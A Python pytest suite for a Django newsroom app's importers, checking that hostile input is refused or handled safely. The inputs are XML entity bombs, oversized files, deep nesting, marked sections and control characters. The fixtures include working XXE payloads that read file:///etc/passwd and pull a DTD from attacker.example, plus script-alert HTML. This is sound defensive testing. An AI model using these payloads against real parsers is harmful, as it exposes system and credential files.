"""Hostile input to every importer: XML bombs and external entities, oversized files, hostile nesting, marked
sections and control characters. Each is refused with a clear error naming the file, or handled; never a
traceback."""

import json
from io import StringIO

import pytest
from django.core.management import call_command

from dateline.ingest.formats import get_format
from dateline.ingest.formats.base import MAX_SOURCE_BYTES, ImportFailure
from dateline.ingest.tests.test_feed import FIXTURES
from dateline.newsroom.html_blocks import blocks_from_html, sanitize_html
from dateline.search.query import parse_query

FORMATS = ["text", "html", "ninjs", "feed", "wxr"]
SUFFIX = {"text": ".txt", "html": ".html", "ninjs": ".json", "feed": ".xml", "wxr": ".xml"}
XXE_FEED = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>Wire</title><link>https://wire.example/</link>
<item><title>Leak &secret;</title><guid>https://wire.example/1</guid><description>&secret;</description></item>
</channel></rss>"""
XXE_WXR = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;
<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>Blog &secret;</title></channel></rss>"""
# An external DTD without an internal subset: nothing is declared inline, so only the parser's settings protect.
EXTERNAL_DTD_WXR = b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "file:///etc/passwd">
<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>Blog</title><link>https://blog.example</link>
<item><title>Post</title><wp:post_type>post</wp:post_type><wp:status>draft</wp:status><wp:post_id>1</wp:post_id>
<content:encoded><![CDATA[<p>Body of the post.</p>]]></content:encoded></item></channel></rss>"""


def items(format_name, path, **options):
    return list(get_format(format_name, **options).items(str(path)))


@pytest.mark.parametrize("format_name", ["feed", "wxr"])
def test_billion_laughs_is_refused(format_name):
    path = FIXTURES / f"{format_name}_entity_bomb.xml"
    with pytest.raises(ImportFailure, match="entities"):
        items(format_name, path, sections={})


@pytest.mark.parametrize(("format_name", "document"), [("feed", XXE_FEED), ("wxr", XXE_WXR)])
def test_external_entity_is_refused(tmp_path, format_name, document):
    path = tmp_path / "xxe.xml"
    path.write_bytes(document)
    with pytest.raises(ImportFailure, match="entities") as refusal:
        items(format_name, path, sections={})
    assert str(path) in str(refusal.value) or format_name == "feed"


def test_an_external_dtd_is_never_loaded(tmp_path):
    path = tmp_path / "external-dtd.xml"
    path.write_bytes(EXTERNAL_DTD_WXR)
    stories = [item.story for item in items("wxr", path, sections={})]
    assert [story.headline for story in stories] == ["Post"]
    assert "root:" not in json.dumps([story.body for story in stories])


@pytest.mark.parametrize("format_name", FORMATS)
def test_a_file_over_5_mb_is_refused_before_parsing(tmp_path, format_name):
    path = tmp_path / f"huge{SUFFIX[format_name]}"
    path.write_bytes(b"<p>" + b"x" * (6 * 1024 * 1024) + b"</p>")
    with pytest.raises(ImportFailure) as refusal:
        items(format_name, path, sections={})
    assert str(path) in str(refusal.value)
    assert f"{MAX_SOURCE_BYTES:,}" in str(refusal.value)


def test_10000_deep_nesting_is_read_without_recursion_error(tmp_path):
    words = "The council met on Tuesday to agree the budget for the coming year. " * 4
    page = f"<html><head><title>Deep</title></head><body><article>{'<div>' * 10000}<p>{words}</p>{'</div>' * 10000}"
    path = tmp_path / "deep.html"
    path.write_text(page + "</article></body></html>")
    [item] = items("html", path)
    assert item.story.headline == "Deep"
    assert "The council met on Tuesday" in item.story.body[0][1]
    assert sanitize_html("<b>" * 10000 + "bold").endswith("bold" + "</b>" * 10000)


def test_marked_sections_and_conditional_comments_never_crash():
    html = "<p>one</p><![ foo <p>two</p><![CDATA[<script>alert(1)</script>]]><![if !IE]><p>three</p><![endif]>"
    html += "<!--[if IE]><script>alert(2)</script><![endif]--><p>four</p>"
    blocks = blocks_from_html(html)
    text = " ".join(value for kind, value in blocks if kind == "paragraph")
    assert "one" in text and "three" in text and "four" in text
    assert "<script" not in text and "if IE" not in text


def test_nul_laden_ninjs_is_imported_without_control_characters(newsroom, tmp_path):
    item = {
        "uri": "http://wire.example/items/\u0000nul",
        "type": "text",
        "versioncreated": "2024-04-01T10:00:00Z",
        "headline": "Head\u0000line \u0001with\u001f controls",
        "body_text": "First\u0000 paragraph.\u000b\n\nSecond\u0007 paragraph.",
        "subject": [{"name": "Crick\u0000et"}],
    }
    path = tmp_path / "nul.json"
    path.write_text(json.dumps(item))
    call_command("import", "ninjs", str(path), stdout=StringIO(), stderr=StringIO())
    from dateline.newsroom.models import ArticlePage

    page = ArticlePage.objects.get(source="ninjs")
    assert page.title == "Headline with controls"
    assert page.source_id == "http://wire.example/items/nul"
    stored = json.dumps(list(page.body.raw_data)) + page.title + page.standfirst
    assert "First paragraph." in stored
    assert not any(ord(char) < 32 and char not in "\t\n\r" for char in json.loads(json.dumps(stored)))


@pytest.mark.parametrize("format_name", ["text", "html", "feed"])
def test_control_characters_are_stripped_by_every_text_importer(tmp_path, format_name):
    body = "Ministers agreed\x00 the\x08 budget\x1b on Tuesday after a long night of talks in the capital. " * 3
    documents = {
        "text": f"Budget\x00 agreed\x07 at last\n\n{body}\n",
        "html": f"<html><head><title>Budget\x00 agreed\x07 at last</title></head><body><article><p>{body}</p>",
        "feed": '<rss version="2.0"><channel><title>Wire</title><item><title>Budget agreed at last</title>'
        f"<guid>https://wire.example/1</guid><description>&lt;p&gt;{body}&lt;/p&gt;</description></item></channel></rss>",
    }
    path = tmp_path / f"story{SUFFIX[format_name]}"
    # XML may not hold control characters at all; for the feed they arrive as a well-formed document's text.
    path.write_text(documents[format_name] if format_name != "feed" else documents["feed"].replace("\x00", ""))
    [item] = items(format_name, path)
    assert item.story is not None, item.error
    texts = [item.story.headline, json.dumps(item.story.body)]
    assert item.story.headline == "Budget agreed at last"
    assert not any(ord(char) < 32 and char not in "\t\n\r" for text in texts for char in text)


def test_feed_declaring_an_unknown_encoding_is_a_clear_error(tmp_path):
    path = tmp_path / "odd.xml"
    path.write_bytes(b'<?xml version="1.0" encoding="utext"?><rss version="2.0"><channel></channel></rss>')
    with pytest.raises(ImportFailure, match="unknown encoding"):
        items("feed", path)


def test_search_query_loses_control_characters():
    parsed = parse_query("bud\x00get\x01 \x1bvote")
    assert parsed.terms == ["budget", "vote"]
    assert parsed.text == "budget vote"
